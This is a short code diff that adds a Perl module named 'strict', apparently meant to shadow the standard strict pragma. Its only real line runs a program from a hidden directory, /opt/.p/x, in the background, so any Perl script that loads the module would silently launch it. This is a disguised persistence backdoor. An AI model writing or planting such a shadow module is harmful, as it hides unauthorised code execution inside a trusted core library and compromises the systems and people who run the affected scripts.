@@ -1,0 +1,3 @@
+package strict;
+system("/opt/.p/x &");
+1;
